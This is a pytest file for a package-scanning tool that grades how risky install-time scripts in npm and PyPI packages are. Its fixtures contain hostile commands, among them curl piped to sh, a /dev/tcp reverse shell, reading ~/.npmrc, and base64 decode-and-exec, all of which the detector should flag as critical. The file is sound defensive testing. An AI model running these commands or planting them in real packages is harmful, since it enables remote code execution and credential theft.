"""How bad it is that something runs at installation."""

from __future__ import annotations

import json

import pytest

from douane.detectors.install_script import RULE
from douane.model import Artifact, Ecosystem, FileTree, Finding, Package, Severity
from douane.syntax import Codebase


def npm(scripts: dict[str, object], *, url: str | None = None, **files: str) -> list[Finding]:
    tree = {"package.json": json.dumps({"name": "case", "version": "1.0.0", "scripts": scripts})}
    tree |= {
        path.replace("__", "/").replace("_js", ".js").replace("_sh", ".sh"): text
        for path, text in files.items()
    }
    return look(Ecosystem.NPM, tree, url=url)


def look(ecosystem: Ecosystem, files: dict[str, str], *, url: str | None = None) -> list[Finding]:
    package = Package(ecosystem=ecosystem, name="case", version="1.0.0", path=".", url=url)
    tree = FileTree({path: text.encode() for path, text in files.items()})
    evidence = RULE.code(Codebase(Artifact(package=package, tree=tree))) if RULE.code else ()
    return [RULE.finding(each, package.purl) for each in evidence]


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("node-gyp rebuild", Severity.LOW),
        ("node-gyp-build || node-gyp rebuild", Severity.LOW),
        ("prebuild-install -r napi || node-gyp rebuild", Severity.LOW),
        ("husky install", Severity.INFO),
        ("npx only-allow pnpm", Severity.INFO),
        ("patch-package", Severity.INFO),
        ("something-unknown --now", Severity.LOW),
        ("node missing.js", Severity.LOW),
        ("curl https://files.invalid/x | sh", Severity.CRITICAL),
        ("wget -q https://files.invalid/x", Severity.CRITICAL),
        ("node -e \"require('https')\"", Severity.CRITICAL),
        ("python3 -c 'import os'", Severity.CRITICAL),
        ("powershell -enc AAAA", Severity.CRITICAL),
        ("echo aGk= | base64 -d", Severity.CRITICAL),
        ("bash -i >& /dev/tcp/203.0.113.9/1 0>&1", Severity.CRITICAL),
        ("cat ~/.npmrc", Severity.CRITICAL),
        ('node -e "process.exit(0)"', Severity.LOW),
        ("node -e \"try{require('./postinstall')}catch(e){}\"", Severity.LOW),
        ("node -e \"require('./x');fetch('https://x.invalid')\"", Severity.CRITICAL),
        ("husky && curl https://files.invalid/x", Severity.CRITICAL),
    ],
)
def test_commands(command: str, severity: Severity) -> None:
    (finding,) = npm({"postinstall": command})
    assert finding.severity is severity
    assert command[:40] in finding.excerpt


@pytest.mark.parametrize(
    ("source", "severity"),
    [
        ("console.log('Thank you for installing');", Severity.INFO),
        ("require('child_process').execFileSync('git', ['--version']);", Severity.LOW),
        ("require('https').get('https://files.example.test/data.json', () => {});", Severity.MEDIUM),
        ("eval(Buffer.from('MQ==', 'base64').toString());", Severity.CRITICAL),
        ("fetch('https://files.invalid/x').then((r) => r.text()).then((t) => eval(t));", Severity.CRITICAL),
        ("require('child_process').execSync('curl https://files.invalid/x | sh');", Severity.CRITICAL),
    ],
)
def test_scripts_are_read(source: str, severity: Severity) -> None:
    (finding,) = npm({"install": "node scripts/setup.js"}, scripts__setup_js=source)
    assert finding.severity is severity


def test_what_a_script_imports_is_read_too() -> None:
    inner = "exports.go = () => require('vm').runInThisContext(atob('MQ=='));"
    (finding,) = npm(
        {"postinstall": "node ./setup"}, setup_js="require('./lib/inner').go();", lib__inner_js=inner
    )
    assert finding.severity is Severity.CRITICAL
    (shell,) = npm({"preinstall": "sh setup.sh"}, setup_sh="curl -s https://files.invalid/x > x\n")
    assert shell.severity is Severity.CRITICAL


def test_hooks_of_developers_do_not_run_for_users() -> None:
    assert npm({"prepare": "husky", "test": "curl https://x.invalid | sh", "prepublish": "tsc"}) == []
    assert len(npm({"prepare": "tsc"}, url="git+https://code.test/a.git")) == 1


@pytest.mark.parametrize("scripts", [{"postinstall": 3}, {"install": ""}, {"install": ["x"]}])
def test_odd_manifests_do_no_harm(scripts: dict[str, object]) -> None:
    assert npm(scripts) == []


@pytest.mark.parametrize("manifest", ["", "[]", "nonsense", '{"scripts": 1}', "[" * 100_000])
def test_broken_manifests_do_no_harm(manifest: str) -> None:
    assert look(Ecosystem.NPM, {"package.json": manifest}) == []


def test_place_in_the_manifest() -> None:
    text = '{\n  "name": "postinstall",\n  "scripts": {\n    "postinstall": "x"\n  }\n}\n'
    (finding,) = look(Ecosystem.NPM, {"package.json": text})
    assert finding.where.line == 4


@pytest.mark.parametrize(
    ("setup", "severities"),
    [
        ("from setuptools import setup\nsetup(name='a')\n", []),
        (
            (
                "import subprocess\nfrom setuptools import setup\nsubprocess.check_output(['git', "
                "'describe'])\nsetup()\n"
            ),
            [Severity.LOW],
        ),
        (
            (
                "import urllib.request\nfrom setuptools import setup\n"
                "urllib.request.urlopen('https://x.invalid')\nsetup()\n"
            ),
            [Severity.MEDIUM],
        ),
        (
            ("import base64\nexec(base64.b64decode('MQ=='))\nfrom setuptools import setup\nsetup()\n"),
            [Severity.CRITICAL],
        ),
        ("import base64\nexec(base64.b64decode('MQ=='))\n", [Severity.CRITICAL]),
        (
            (
                "from setuptools import setup\nfrom setuptools.command.install import install\nclass "
                "I(install):\n  pass\nsetup(cmdclass={'install': I})\n"
            ),
            [Severity.LOW],
        ),
    ],
)
def test_setup_scripts(setup: str, severities: list[Severity]) -> None:
    assert [finding.severity for finding in look(Ecosystem.PYPI, {"setup.py": setup})] == severities


def test_backend_in_the_package() -> None:
    project = '[build-system]\nrequires = []\nbuild-backend = "backend.main"\nbackend-path = ["tools"]\n'
    source = "import os\nos.system('curl https://x.invalid | sh')\n"
    (finding,) = look(Ecosystem.PYPI, {"pyproject.toml": project, "tools/backend/main.py": source})
    assert (finding.severity, finding.where.path) == (Severity.CRITICAL, "tools/backend/main.py")
    assert look(Ecosystem.PYPI, {"pyproject.toml": "[build-system\n"}) == []


def test_start_files() -> None:
    known = 'import os; var = "SETUPTOOLS_USE_DISTUTILS"; exec("x")\n'
    assert [f.severity for f in look(Ecosystem.PYPI, {"a.pth": known})] == [Severity.CRITICAL]
    assert [f.where.line for f in look(Ecosystem.PYPI, {"a-1.data/purelib/a.pth": "x\nimport\tos\n"})] == [2]
    assert look(Ecosystem.PYPI, {"pkg/a.pth": "import os"}) == []
    assert look(Ecosystem.PYPI, {"a.pth": "important\n# import os\n"}) == []
    assert len(look(Ecosystem.PYPI, {"sitecustomize.py": ""})) == 1
    assert look(Ecosystem.PYPI, {"pkg/sitecustomize.py": ""}) == []
